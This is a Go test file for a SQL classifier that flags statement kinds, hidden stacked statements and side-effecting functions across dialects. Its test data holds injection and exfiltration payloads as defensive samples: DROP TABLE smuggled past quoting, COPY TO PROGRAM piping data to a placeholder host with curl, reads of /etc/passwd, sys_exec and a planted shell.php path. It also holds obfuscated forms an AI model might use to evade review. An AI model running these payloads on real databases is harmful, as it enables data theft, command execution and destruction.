package textfmt

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestSQLKinds(t *testing.T) {
	tests := []struct {
		name, sql string
		want      []string
	}{
		{"select", "SELECT id FROM invoices", []string{"SELECT"}},
		{"lower case, leading comments", "-- report\n/* read only */ update t set a = 1", []string{"UPDATE"}},
		{"padded second statement", "SELECT 1;" + strings.Repeat("\n", 100000) + "DROP TABLE users; --", []string{"DROP", "SELECT"}},
		{"most consequential first", "select 1; insert into t values (1); delete from t", []string{"DELETE", "INSERT", "SELECT"}},
		{"each kind once", "SELECT 1; SELECT 2; select 3", []string{"SELECT"}},
		{"semicolon in a string", "SELECT ';DROP TABLE x' AS s", []string{"SELECT"}},
		{"semicolon in an identifier", `SELECT 1 AS "a;drop table x"`, []string{"SELECT"}},
		// Standard SQL reads a dollar-quoted body; MySQL, to which $ quotes
		// nothing, reads a second statement of no known kind.
		{"dollar quoted body", "CREATE FUNCTION f() RETURNS int AS $body$ DELETE FROM t; $body$ LANGUAGE sql", []string{"CREATE", "SQL"}},
		{"parameter is not a dollar quote", "SELECT $1; DROP TABLE t", []string{"DROP", "SELECT"}},
		{"parenthesised select", "(select 1)", []string{"SELECT"}},
		{"unknown first word", "frobnicate everything", []string{"SQL"}},
		{"not a word", "1 + 1", []string{"SQL"}},
		{"with leads to delete", "WITH old AS (SELECT id FROM t) DELETE FROM t USING old", []string{"DELETE"}},
		{"with data-modifying cte", "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", []string{"DELETE", "SELECT"}},
		{"with alone", "WITH x AS (SELECT 1)", []string{"WITH"}},
		{"empty statements", " ;;; ", []string{}},
		{"only comments", "-- nothing\n/* at all */", []string{}},
		// Each dialect's reading counts.
		{"backslash before quote (standard SQL ends the string)", `SELECT 'C:\'; DROP TABLE x; --'`, []string{"DROP", "SELECT"}},
		{"backslash before quote (MySQL escapes it)", `SELECT 'a\'; DROP TABLE x; --'; SELECT 1`, []string{"DROP", "SELECT"}},
		{"nested comment (MySQL ends it early)", "SELECT 1 /* /* */ ; DROP TABLE x; /* */", []string{"DROP", "SELECT"}},
		{"MySQL executable comment", "SELECT 1; /*!50000 DROP TABLE x */", []string{"DROP", "SELECT"}},
		{"hash comment in MySQL only", "SELECT 1 # ; DELETE FROM t", []string{"DELETE", "SELECT"}},
		{"dollar quotes are no quotes to MySQL", "SELECT $x$; DROP TABLE t; $x$", []string{"DROP", "SQL", "SELECT"}},
		{"back quotes are no quotes to standard SQL", "SELECT 1 AS `a; DROP TABLE t; --`", []string{"DROP", "SELECT"}},
		// A $ right after a name goes on with the name (a$$ is a name in
		// PostgreSQL), so it starts no dollar quote; in MySQL the backslash
		// keeps the rest in one string.
		{"dollar after a name", `SELECT '\' AS a$$; DROP TABLE invoices; -- $$ '`, []string{"DROP", "SELECT"}},
		{"dollar quote tag of non-ASCII letters", "SELECT $é$ ' $é$; DROP TABLE t; -- '", []string{"DROP", "SELECT"}},
		// In MySQL -- starts a comment only before white space or a control
		// character: 1--1 is one minus minus one.
		{"MySQL double dash before a digit", "SELECT 1--1; DROP TABLE invoices", []string{"DROP", "SELECT"}},
		{"double dash and space comment in both", "SELECT 1 -- ; DROP TABLE t", []string{"SELECT"}},
		// In PostgreSQL a backslash escapes in E'…' strings, and a carriage
		// return ends a -- comment.
		{"PostgreSQL escape string", `SELECT E'\'', $$ ' $$; DROP TABLE t; -- '`, []string{"DROP", "SELECT"}},
		{"PostgreSQL escape string continued", "SELECT E'a'\n'\\'', $$#$$; DROP TABLE t; -- '", []string{"DROP", "SELECT"}},
		{"PostgreSQL carriage return ends a comment", "SELECT 1 --\r; DROP TABLE t", []string{"DROP", "SELECT"}},
		// MySQL reads dollar quotes from 8.1 on, and not after @.
		{"MySQL dollar quote", `SELECT '\'', $a$ ' $a$; DROP TABLE t; -- '`, []string{"DROP", "SELECT"}},
		{"MySQL dollar quote tag of a digit", "SELECT $1$ '$1$; DROP TABLE t; -- '", []string{"DROP", "SELECT"}},
		{"MySQL no dollar quote after @", "SELECT $a$ ' $a$, @$$; DROP TABLE t; -- $$ '", []string{"DROP", "SELECT"}},
		{"unterminated string", "SELECT 'abc", []string{"SELECT"}},
		{"unterminated comment", "DELETE FROM t /* x", []string{"DELETE"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			assert.Equal(t, tc.want, SQLKinds(tc.sql))
		})
	}
}

// TestSQLSideEffects: a query that reads as a read but creates a table,
// writes or reads a server file, runs a program or calls a function that
// changes something is reported with that effect and its tier, however it
// is written.
func TestSQLSideEffects(t *testing.T) {
	tests := []struct {
		name, sql string
		want      []string
		tier      string
	}{
		{"plain select reads", "SELECT id FROM invoices", []string{"SELECT"}, "read"},
		// SELECT … INTO creates a table in PostgreSQL, sets a variable in MySQL.
		{"select into a new table", "SELECT * INTO newtable FROM invoices", []string{"CREATE", "SELECT"}, "write"},
		{"select into a temporary table", "select id into temp t from invoices", []string{"CREATE", "SELECT"}, "write"},
		{"select into after a function call", "SELECT replace(name, 'a', 'b') INTO t FROM s", []string{"CREATE", "SELECT"}, "write"},
		{"select into a quoted table", `SELECT 1 INTO "New" FROM s`, []string{"CREATE", "SELECT"}, "write"},
		{"select into in a with statement", "WITH x AS (SELECT 1) SELECT * INTO t FROM x", []string{"CREATE", "SELECT"}, "write"},
		{"select into in parentheses", "(SELECT 1 INTO t)", []string{"CREATE", "SELECT"}, "write"},
		{"select into at the end", "SELECT 1 INTO", []string{"CREATE", "SELECT"}, "write"},
		{"select into a variable", "SELECT count(*) FROM t INTO @n", []string{"SET", "SELECT"}, "write"},
		{"insert into creates nothing", "INSERT INTO t SELECT * FROM s", []string{"INSERT"}, "write"},
		{"insert ignore into", "INSERT IGNORE INTO t VALUES (1)", []string{"INSERT"}, "write"},
		{"insert or replace into", "INSERT OR REPLACE INTO t VALUES (1)", []string{"INSERT"}, "write"},
		{"insert with a hint before into", "INSERT /*+ hint */ INTO t VALUES (1)", []string{"INSERT"}, "write"},
		{"merge into", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", []string{"MERGE"}, "write"},
		{"insert into in a with statement", "WITH d AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM d", []string{"INSERT", "SELECT"}, "write"},
		// MySQL writes a file on the database server.
		{"select into outfile", "SELECT * FROM users INTO OUTFILE '/var/lib/mysql-files/u.csv'", []string{"INTO OUTFILE", "SELECT"}, "execute"},
		{"select into dumpfile", "select password from users limit 1 into dumpfile '/tmp/p'", []string{"INTO DUMPFILE", "SELECT"}, "execute"},
		{"select into outfile before from", "SELECT * INTO OUTFILE '/tmp/u' FROM users", []string{"INTO OUTFILE", "SELECT"}, "execute"},
		{"table into outfile", "TABLE users INTO OUTFILE '/tmp/u'", []string{"INTO OUTFILE", "TABLE"}, "execute"},
		{"into outfile across a comment", "SELECT 1 INTO /* x */ OUTFILE '/tmp/u'", []string{"INTO OUTFILE", "SELECT"}, "execute"},
		{"into outfile in executable comments", "SELECT 1 /*!INTO*/ /*!50000 OUTFILE */ '/tmp/u'", []string{"INTO OUTFILE", "SELECT"}, "execute"},
		{"into outfile after a union", "SELECT 1 UNION SELECT 2 INTO OUTFILE '/tmp/u'", []string{"INTO OUTFILE", "SELECT"}, "execute"},
		// MySQL and MariaDB run what executable comments hold.
		{"MariaDB executable comment", "SELECT 1 /*M!100100 ; DROP TABLE users */", []string{"DROP", "SELECT"}, "write"},
		{"MariaDB executable comment without a version", "SELECT 1 /*M! ; DROP TABLE users */", []string{"DROP", "SELECT"}, "write"},
		{"MySQL executable comment", "SELECT 1 /*! ; DROP TABLE users */", []string{"DROP", "SELECT"}, "write"},
		{"MySQL versioned executable comment", "SELECT 1 /*!50000 ; DROP TABLE users */", []string{"DROP", "SELECT"}, "write"},
		{"nested executable comments", "SELECT 1 /*!50000 /*M!100100 ; DROP TABLE users */ */", []string{"DROP", "SELECT"}, "write"},
		{"executable comment holds a function", "SELECT /*!50000 load_file('/etc/passwd') */", []string{"load_file()", "SELECT"}, "execute"},
		{"a plain comment holds nothing", "SELECT 1 /* ; DROP TABLE users */", []string{"SELECT"}, "read"},
		// EXPLAIN ANALYZE, and MySQL's DESC ANALYZE, run the statement.
		{"desc analyze delete", "DESC ANALYZE DELETE FROM users", []string{"DELETE", "DESC"}, "write"},
		{"describe analyze update", "describe analyze update users set admin = 1", []string{"UPDATE", "DESCRIBE"}, "write"},
		{"desc analyze format tree", "DESC ANALYZE FORMAT=TREE DELETE FROM users", []string{"DELETE", "DESC"}, "write"},
		{"explain analyze delete", "EXPLAIN ANALYZE DELETE FROM users", []string{"DELETE", "EXPLAIN"}, "write"},
		{"explain with analyze in options", "EXPLAIN (ANALYZE, FORMAT JSON) INSERT INTO t VALUES (1)", []string{"INSERT", "EXPLAIN"}, "write"},
		{"explain analyse", "EXPLAIN ANALYSE VERBOSE DELETE FROM users", []string{"DELETE", "EXPLAIN"}, "write"},
		{"explain analyze with", "EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", []string{"DELETE", "SELECT", "EXPLAIN"}, "write"},
		{"MariaDB analyze statement", "ANALYZE DELETE FROM users", []string{"DELETE", "ANALYZE"}, "write"},
		{"analyze table", "ANALYZE TABLE users", []string{"ANALYZE"}, "write"},
		{"desc without analyze runs nothing", "DESC DELETE FROM users", []string{"DESC"}, "read"},
		{"desc of a table", "DESCRIBE users", []string{"DESCRIBE"}, "read"},
		{"desc analyze select", "DESC ANALYZE SELECT * FROM users", []string{"SELECT", "DESC"}, "read"},
		// COPY runs programs and reaches server files.
		{"copy to program", "COPY users TO PROGRAM 'curl -d @- https://x.example'", []string{"PROGRAM", "COPY"}, "execute"},
		{"copy from program", "copy users from program 'id'", []string{"PROGRAM", "COPY"}, "execute"},
		{"copy a query to program", "COPY (SELECT * FROM users) TO PROGRAM 'sh -c id'", []string{"PROGRAM", "COPY"}, "execute"},
		{"copy with columns from program", "COPY users (id, name) FROM PROGRAM 'cat /etc/passwd'", []string{"PROGRAM", "COPY"}, "execute"},
		{"copy to a server file", "COPY users TO '/tmp/users.csv'", []string{"SERVER FILE", "COPY"}, "execute"},
		{"copy from a server file", "COPY users FROM '/etc/passwd'", []string{"SERVER FILE", "COPY"}, "execute"},
		{"copy to an escape string", `COPY users TO E'/tmp/u'`, []string{"SERVER FILE", "COPY"}, "execute"},
		{"copy to a parameter", "COPY users TO $1", []string{"SERVER FILE", "COPY"}, "execute"},
		{"copy to a dollar-quoted file", "COPY users TO $$/tmp/u$$", []string{"SERVER FILE", "COPY"}, "execute"},
		{"copy to stdout", "COPY users TO STDOUT WITH (FORMAT csv)", []string{"COPY"}, "write"},
		{"copy from stdin", "COPY users FROM STDIN", []string{"COPY"}, "write"},
		{"copy a query that reads from a table", "COPY (SELECT * FROM users) TO STDOUT", []string{"COPY"}, "write"},
		{"load data infile", "LOAD DATA INFILE '/etc/passwd' INTO TABLE t", []string{"SERVER FILE", "LOAD"}, "execute"},
		{"load data local infile", "LOAD DATA LOCAL INFILE 'u.csv' INTO TABLE t", []string{"LOAD"}, "write"},
		{"attach a file", "ATTACH DATABASE '/var/www/html/shell.php' AS s", []string{"SERVER FILE", "ATTACH"}, "execute"},
		{"vacuum into a file", "VACUUM INTO '/tmp/copy.db'", []string{"SERVER FILE", "VACUUM"}, "execute"},
		// Side-effecting functions, however they are written.
		{"lo_export", "SELECT lo_export(16409, '/tmp/x')", []string{"lo_export()", "SELECT"}, "execute"},
		{"lo_import", "SELECT lo_import('/etc/passwd')", []string{"lo_import()", "SELECT"}, "execute"},
		{"pg_read_file", "SELECT pg_read_file('/etc/passwd')", []string{"pg_read_file()", "SELECT"}, "execute"},
		{"pg_ls_dir", "SELECT * FROM pg_ls_dir('/')", []string{"pg_ls_dir()", "SELECT"}, "execute"},
		{"dblink_exec", "SELECT dblink_exec('host=x', 'DROP TABLE t')", []string{"dblink_exec()", "SELECT"}, "execute"},
		{"dblink", "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)", []string{"dblink()", "SELECT"}, "execute"},
		{"pg_terminate_backend", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", []string{"pg_terminate_backend()", "SELECT"}, "write"},
		{"pg_cancel_backend", "SELECT pg_cancel_backend(42)", []string{"pg_cancel_backend()", "SELECT"}, "write"},
		{"set_config", "SELECT set_config('search_path', 'evil', false)", []string{"set_config()", "SELECT"}, "write"},
		{"setval", "SELECT setval('ids', 1)", []string{"setval()", "SELECT"}, "write"},
		{"nextval", "SELECT nextval('ids')", []string{"nextval()", "SELECT"}, "write"},
		{"pg_reload_conf", "SELECT pg_reload_conf()", []string{"pg_reload_conf()", "SELECT"}, "write"},
		{"load_file", "SELECT LOAD_FILE('/etc/passwd')", []string{"load_file()", "SELECT"}, "execute"},
		{"sys_exec", "SELECT sys_exec('id')", []string{"sys_exec()", "SELECT"}, "execute"},
		{"sys_eval", "SELECT sys_eval('id')", []string{"sys_eval()", "SELECT"}, "execute"},
		{"load_extension", "SELECT load_extension('/tmp/x.so')", []string{"load_extension()", "SELECT"}, "execute"},
		{"writefile", "SELECT writefile('/tmp/x', 'y')", []string{"writefile()", "SELECT"}, "execute"},
		{"query_to_xml runs a query in a string", "SELECT query_to_xml('SELECT lo_export(1, ''/x'')', true, true, '')", []string{"query_to_xml()", "SELECT"}, "execute"},
		{"upper case", "SELECT LO_EXPORT(1, '/tmp/x')", []string{"lo_export()", "SELECT"}, "execute"},
		{"mixed case", "SELECT Pg_Read_File('/etc/passwd')", []string{"pg_read_file()", "SELECT"}, "execute"},
		{"quoted name", `SELECT "lo_export"(1, '/tmp/x')`, []string{"lo_export()", "SELECT"}, "execute"},
		{"quoted name with a doubled quote is another name", `SELECT "lo_""export"(1, '/tmp/x')`, []string{"SELECT"}, "read"},
		{"schema-qualified", "SELECT pg_catalog.lo_export(1, '/tmp/x')", []string{"lo_export()", "SELECT"}, "execute"},
		{"quoted schema-qualified", `SELECT "pg_catalog"."lo_export"(1, '/tmp/x')`, []string{"lo_export()", "SELECT"}, "execute"},
		{"back-quoted", "SELECT `sys_exec`('id')", []string{"sys_exec()", "SELECT"}, "execute"},
		{"unicode-escaped name", `SELECT U&"lo\005fexport"(1, '/tmp/x')`, []string{"lo_export()", "SELECT"}, "execute"},
		{"unicode-escaped name, long escapes", `SELECT u&"\+00006co_export"(1, '/tmp/x')`, []string{"lo_export()", "SELECT"}, "execute"},
		{"unicode-escaped name with uescape", `SELECT U&"lo!005fexport" UESCAPE '!' (1, '/tmp/x')`, []string{"lo_export()", "SELECT"}, "execute"},
		{"accented name", "SELECT s\u00ffs_exec('id')", []string{"sys_exec()", "SELECT"}, "execute"},
		{"a combining mark is a character of its own", "SELECT `lo\u0308_export`(1, '/x')", []string{"SELECT"}, "read"},
		{"accented back-quoted name", "SELECT `s\u00dds_eval`('id')", []string{"sys_eval()", "SELECT"}, "execute"},
		{"invalid UTF-8 in a name", "SELECT sys_\xffxec('id')", []string{"sys_exec()", "SELECT"}, "execute"},
		{"non-ASCII name of another length is no call", "SELECT s\u00ffs_exe('id')", []string{"SELECT"}, "read"},
		{"comment before the parenthesis", "SELECT lo_export /* ( */ (1, '/tmp/x')", []string{"lo_export()", "SELECT"}, "execute"},
		{"line comment before the parenthesis", "SELECT lo_export -- (\n(1, '/tmp/x')", []string{"lo_export()", "SELECT"}, "execute"},
		{"white space before the parenthesis", "SELECT lo_export\n\t (1, '/tmp/x')", []string{"lo_export()", "SELECT"}, "execute"},
		{"in a subquery", "SELECT * FROM (SELECT pg_read_file('/etc/passwd')) x", []string{"pg_read_file()", "SELECT"}, "execute"},
		{"in a common table expression", "WITH x AS (SELECT nextval('ids')) SELECT * FROM x", []string{"nextval()", "SELECT"}, "write"},
		{"in a where clause", "SELECT 1 FROM t WHERE pg_terminate_backend(42) AND true", []string{"pg_terminate_backend()", "SELECT"}, "write"},
		{"in a later statement", "SELECT 1; SELECT 2, sys_eval('id')", []string{"sys_eval()", "SELECT"}, "execute"},
		{"in a delete", "DELETE FROM t WHERE id = (SELECT lo_export(1, '/x'))", []string{"lo_export()", "DELETE"}, "execute"},
		{"as the first word", "lo_export(1, '/x')", []string{"lo_export()", "SQL"}, "execute"},
		{"in a string is no call", "SELECT 'lo_export(1)' AS name", []string{"SELECT"}, "read"},
		{"in a comment is no call", "SELECT 1 -- lo_export(1, '/x')", []string{"SELECT"}, "read"},
		{"part of another name is no call", "SELECT my_lo_export(1), lo_export_log FROM t", []string{"SELECT"}, "read"},
		// Statements that run what the reader cannot see.
		{"do block", "DO $$ BEGIN EXECUTE 'COPY t TO PROGRAM ''id'''; END $$", []string{"DO", "END"}, "execute"}, // END: to MySQL, $ quotes nothing
		{"prepare from a variable", "SET @q = 'SELECT 1 INTO OUTFILE ''/tmp/x'''; PREPARE s FROM @q; EXECUTE s", []string{"EXECUTE", "PREPARE", "SET"}, "execute"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			kinds := SQLKinds(tc.sql)
			assert.Equal(t, tc.want, kinds)
			assert.Equal(t, tc.tier, SQLTier(kinds))
		})
	}
}

// TestSQLFunctionsEachRaiseTheirTier calls every listed function in a
// query that otherwise reads.
func TestSQLFunctionsEachRaiseTheirTier(t *testing.T) {
	for _, f := range sqlFunctions {
		t.Run(f.name, func(t *testing.T) {
			kinds := SQLKinds("SELECT " + f.name + "(1) FROM t")
			assert.Equal(t, []string{f.name + "()", "SELECT"}, kinds)
			assert.Equal(t, f.tier, SQLTier(kinds))
		})
	}
}

func TestSQLTier(t *testing.T) {
	tests := []struct {
		name  string
		kinds []string
		want  string
	}{
		{"no statement", nil, "write"},
		{"reads", []string{"SELECT", "SHOW", "DESC"}, "read"},
		{"a statement of no known kind", []string{"SQL"}, "write"},
		{"a kind this version does not know", []string{"FROBNICATE"}, "write"},
		{"a write", []string{"DELETE", "SELECT"}, "write"},
		{"a function that changes something", []string{"nextval()", "SELECT"}, "write"},
		{"a function that runs a program", []string{"sys_exec()", "SELECT"}, "execute"},
		{"a program", []string{"PROGRAM", "COPY"}, "execute"},
		{"a server file", []string{"SERVER FILE", "COPY"}, "execute"},
		{"a do block", []string{"DO", "END"}, "execute"}, // END: to MySQL, $ quotes nothing
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			assert.Equal(t, tc.want, SQLTier(tc.kinds))
		})
	}
}

// TestSQLFunctionsAreDocumented holds the list of side-effecting functions
// in docs/stock-catalog.md to the one SQLKinds reads: each function once,
// with its tier.
func TestSQLFunctionsAreDocumented(t *testing.T) {
	data, err := os.ReadFile(filepath.Join("..", "..", "docs", "stock-catalog.md"))
	require.NoError(t, err)
	row := regexp.MustCompile("(?m)^\\| `([a-z0-9_]+)\\(\\)` \\| (\\w+) \\|")
	documented := map[string]string{}
	for _, m := range row.FindAllStringSubmatch(string(data), -1) {
		_, twice := documented[m[1]]
		assert.False(t, twice, "%s is listed twice", m[1])
		documented[m[1]] = m[2]
	}
	want := map[string]string{}
	for _, f := range sqlFunctions {
		want[f.name] = f.tier
	}
	assert.Equal(t, want, documented)
}

// TestSQLKindsReadings checks each reading on its own: what one reading
// gets wrong another must not hide. want lists the kinds of each reading,
// in the order of the dialects: standard SQL | PostgreSQL | MySQL | MySQL
// from 8.1 on.
func TestSQLKindsReadings(t *testing.T) {
	tests := []struct{ name, sql, want string }{
		{"dollar after a name", `SELECT '\' AS a$$; DROP TABLE invoices; -- $$ '`, "DROP SELECT | DROP SELECT | SELECT | SELECT"},
		{"dollar after a name ending in a digit", "SELECT x1$$; DROP TABLE t; -- $$", "DROP SELECT | DROP SELECT | DROP SELECT | DROP SELECT"},
		{"dollar after a non-ASCII name", "SELECT \u00e9$$; DROP TABLE t; -- $$", "DROP SELECT | DROP SELECT | DROP SELECT | DROP SELECT"},
		{"dollar after a number and a name", "SELECT 1e$$; DROP TABLE t; -- $$", "DROP SELECT | DROP SELECT | DROP SELECT | DROP SELECT"},
		{"dollar after a hexadecimal number", "SELECT 0x1F$$; DROP TABLE t; -- $$", "DROP SELECT | DROP SELECT | DROP SELECT | DROP SELECT"},
		{"dollar after a parameter and a name", "SELECT $1e$$; DROP TABLE t; -- $$", "DROP SELECT | DROP SELECT | DROP SELECT | SELECT"},
		{"dollar quote after a space", "SELECT $$a;b$$", "SELECT | SELECT | SQL SELECT | SELECT"},
		{"dollar quote after a number", "SELECT 1$$; DROP TABLE t; -- $$", "SELECT | SELECT | DROP SELECT | DROP SELECT"},
		{"dollar quote after a real", "SELECT 1.e5$$; DROP TABLE t; -- $$", "SELECT | SELECT | DROP SELECT | SELECT"},
		{"dollar quote after a decimal", "SELECT 1.5$$; DROP TABLE t; -- $$", "SELECT | SELECT | DROP SELECT | SELECT"},
		{"dollar quote after a quoted name", `SELECT "a"$$; DROP TABLE t; -- $$`, "SELECT | SELECT | DROP SELECT | SELECT"},
		{"dollar quote after a string", "SELECT 'a'$$; DROP TABLE t; -- $$", "SELECT | SELECT | DROP SELECT | SELECT"},
		{"dollar quote tag of non-ASCII letters", "SELECT $\u00e9$ ' $\u00e9$; DROP TABLE t; -- '", "DROP SELECT | DROP SELECT | SELECT | DROP SELECT"},
		{"dollar quote tag of a digit", "SELECT $1$ '$1$; DROP TABLE t; -- '", "SELECT | SELECT | SELECT | DROP SELECT"},
		{"dollar after a dot", "SELECT t.$$; DROP TABLE t; -- $$", "SELECT | SELECT | DROP SELECT | DROP SELECT"},
		{"dollar after @", "SELECT @$$; DROP TABLE t; -- $$", "SELECT | SELECT | DROP SELECT | DROP SELECT"},
		{"dollar after a name, a dot and a digit", "SELECT t.5$$; DROP TABLE t; -- $$", "SELECT | SELECT | DROP SELECT | DROP SELECT"},
		{"dollar quote after a quoted name, a dot and a digit", "SELECT `t`.5$$; DROP TABLE t; -- $$", "SELECT | SELECT | DROP SELECT | SELECT"},
		{"parameter", "SELECT $1; DROP TABLE t", "DROP SELECT | DROP SELECT | DROP SELECT | DROP SELECT"},
		{"double dash before a digit", "SELECT 1--1; DROP TABLE invoices", "SELECT | SELECT | DROP SELECT | DROP SELECT"},
		{"double dash before a dash", "SELECT 1 ---1; DROP TABLE t", "SELECT | SELECT | DROP SELECT | DROP SELECT"},
		{"double dash before a space", "SELECT 1 -- ; DROP TABLE t", "SELECT | SELECT | SELECT | SELECT"},
		{"double dash before a tab", "SELECT 1 --\t; DROP TABLE t", "SELECT | SELECT | SELECT | SELECT"},
		{"double dash before a control character", "SELECT 1 --\x01; DROP TABLE t", "SELECT | SELECT | SELECT | SELECT"},
		{"double dash at the end", "DELETE FROM t --", "DELETE | DELETE | DELETE | DELETE"},
		{"carriage return after a double dash", "SELECT 1 --\r; DROP TABLE t", "SELECT | DROP SELECT | SELECT | SELECT"},
		{"escape string", `SELECT E'\'', $$ ' $$; DROP TABLE t; -- '`, "SELECT | DROP SELECT | SELECT | DROP SELECT"},
		{"escape string after a number", `SELECT 1E'\'', $$ ' $$; DROP TABLE t; -- '`, "SELECT | DROP SELECT | SELECT | DROP SELECT"},
		{"escape string continued", "SELECT E'a'\n'\\'', $$#$$; DROP TABLE t; -- '", "SELECT | DROP SELECT | SELECT | DROP SELECT"},
		{"escape string continued after a comment", "SELECT E'a' -- b\n  '\\'', $$#$$; DROP TABLE t; -- '", "SELECT | DROP SELECT | SELECT | DROP SELECT"},
		{"escape string not continued on its line", `SELECT E'a' '\'', $$ ' $$; DROP TABLE t; -- '`, "SELECT | SELECT | SELECT | DROP SELECT"},
		{"E at the end of a name", `SELECT xE'\'', $$ ' $$; DROP TABLE t; -- '`, "SELECT | SELECT | SELECT | DROP SELECT"},
		{"dollar quote behind a backslash", `SELECT '\'', $a$ ' $a$; DROP TABLE t; -- '`, "SELECT | SELECT | SELECT | DROP SELECT"},
	}
	dialects := []sqlDialect{standardSQL, postgreSQL, mySQL, mySQLDollar}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			want := strings.Split(tc.want, " | ")
			for i, d := range dialects {
				assert.Equal(t, want[i], strings.Join(readingKinds(tc.sql, d), " "), "dialect %d", d)
			}
		})
	}
}

// readingKinds returns the kinds of sql in one reading, ordered as
// SQLKinds orders them.
func readingKinds(sql string, d sqlDialect) []string {
	seen := map[string]bool{}
	s := sqlScanner{text: sql, dialect: d}
	for s.i < len(s.text) {
		for _, k := range s.statement() {
			seen[k] = true
		}
	}
	kinds := []string{}
	for _, k := range sqlKeywords {
		if seen[k] {
			kinds = append(kinds, k)
		}
	}
	return kinds
}

func TestSQLKindsAreBounded(t *testing.T) {
	var b strings.Builder
	for _, k := range sqlKeywords {
		b.WriteString(k + " x;")
	}
	for _, f := range sqlFunctions {
		b.WriteString("SELECT " + f.name + "(1);")
	}
	b.WriteString("COPY t TO PROGRAM 'x'; SELECT 1 INTO OUTFILE 'x'; SELECT 1 INTO DUMPFILE 'x';")
	b.WriteString(strings.Repeat("junk words here;", 10000))
	kinds := SQLKinds(b.String())
	assert.Len(t, kinds, MaxSQLKinds, "each kind once, junk as SQL")
	assert.Equal(t, sqlTables().kinds, kinds, "in order of consequence")
	assert.Len(t, kinds, MaxSQLKinds)
	assert.Equal(t, SQLProgram, kinds[0])
}

// TestSQLStatementListsEachKindOnce: a statement that calls a function a
// hundred thousand times lists its kind once, so what one statement holds
// is bounded as what SQLKinds returns is.
func TestSQLStatementListsEachKindOnce(t *testing.T) {
	s := sqlScanner{text: "SELECT " + strings.Repeat("nextval('s'), ", 100000) + "1 INTO t"}
	assert.Equal(t, []string{"SELECT", "nextval()", "CREATE"}, s.statement())
}

// BenchmarkSQLKinds reads padded queries of two sizes: the time per byte
// stays the same. The hostile padding, thousands of comments ended by
// carriage returns and escapes that call for every reading, took time in
// the square of its length when each comment was searched to the end of
// the text for a line feed. Short words, each looked up among the words
// and functions that matter, are the slowest text for the side effects.
func BenchmarkSQLKinds(b *testing.B) {
	for _, pad := range []struct{ name, text string }{{"newlines", "\n"}, {"hostile", "$\\'E'--\r"}, {"words", "ab Cd, "}} {
		for _, size := range []int{60 << 10, 1 << 20} {
			sql := "SELECT 1;" + strings.Repeat(pad.text, size/len(pad.text)) + "DROP TABLE users; --"
			b.Run(fmt.Sprintf("%s/%dKiB", pad.name, size>>10), func(b *testing.B) {
				b.SetBytes(int64(len(sql)))
				for b.Loop() {
					SQLKinds(sql)
				}
			})
		}
	}
}

// FuzzSQLKinds checks that the kinds are known, each once and in order,
// and that a listed function called in a statement read from a clean state
// (the first) is reported, in each of the forms a model may write it, and
// raises the query to its tier whatever follows.
func FuzzSQLKinds(f *testing.F) {
	for _, s := range []string{"SELECT 1; DROP TABLE x", "WITH d AS (DELETE FROM t) SELECT 1", `SELECT 'a\'; DROP`, "/* /* */ */ x", "$a$ $a$; $$", "/*!5 DROP */ #",
		`SELECT '\' AS a$$; DROP TABLE invoices; -- $$ '`, "SELECT 1--1; DROP TABLE invoices",
		`SELECT E'\'', $$ ' $$; DROP TABLE t; -- '`, "SELECT 1 --\r; DROP TABLE t", `SELECT '\'', $a$ ' $a$; DROP TABLE t; -- '`,
		"SELECT 1 /*M!100100 ; DROP TABLE users */", "COPY t TO PROGRAM 'id'", "SELECT * INTO t FROM s", "DESC ANALYZE DELETE FROM t"} {
		f.Add(s, uint16(0), uint8(0))
	}
	f.Fuzz(func(t *testing.T, sql string, fn uint16, form uint8) {
		kinds := SQLKinds(sql)
		for i, k := range kinds {
			rank, ok := sqlTables().kindRank[k]
			if !ok {
				t.Fatalf("kind %q is not a kind", k)
			}
			if i > 0 && sqlTables().kindRank[kinds[i-1]] >= rank {
				t.Fatalf("kinds %q not in order of consequence, or repeated", kinds)
			}
		}
		if len(kinds) > MaxSQLKinds {
			t.Fatalf("%d kinds, more than %d", len(kinds), MaxSQLKinds)
		}
		if tier := SQLTier(kinds); tier == "read" {
			for _, k := range kinds {
				if !sqlReadKinds[k] {
					t.Fatalf("kinds %q read as a read", kinds)
				}
			}
		}
		fun := sqlFunctions[int(fn)%len(sqlFunctions)]
		call := "SELECT " + functionCall(fun.name, form) + ";" + sql
		got := SQLKinds(call)
		if !slices.Contains(got, sqlFunctionKind(fun)) {
			t.Fatalf("SQLKinds(%q) = %q, without %s", call, got, sqlFunctionKind(fun))
		}
		if tier := SQLTier(got); tier == "read" || fun.tier == "execute" && tier != "execute" {
			t.Fatalf("SQLTier(SQLKinds(%q)) = %s, want %s at least", call, tier, fun.tier)
		}
	})
}

// functionCall writes a call of the function name in one of the forms a
// model may use to slip it past a reader: form picks the case of each
// letter, quoting, a schema, and what stands between the name and its
// parenthesis.
func functionCall(name string, form uint8) string {
	if form&1 != 0 {
		name = strings.ToUpper(name)
	}
	if form&0x80 != 0 { // MySQL finds a loadable function whatever its accents
		name = "\u00ff" + name[1:]
	}
	switch form >> 1 & 3 {
	case 1:
		name = `"` + name + `"`
	case 2:
		name = "`" + name + "`"
	case 3:
		var b strings.Builder
		b.WriteString(`U&"`)
		for _, c := range name {
			fmt.Fprintf(&b, `\%04x`, c)
		}
		name = b.String() + `"`
	}
	switch form >> 3 & 3 {
	case 1:
		name = "pg_catalog." + name
	case 2:
		name = "public . " + name
	}
	switch form >> 5 & 3 {
	case 1:
		name += " /* ( */ "
	case 2:
		name += "\n\t"
	case 3:
		name += " -- (\n"
	}
	return name + "(1)"
}
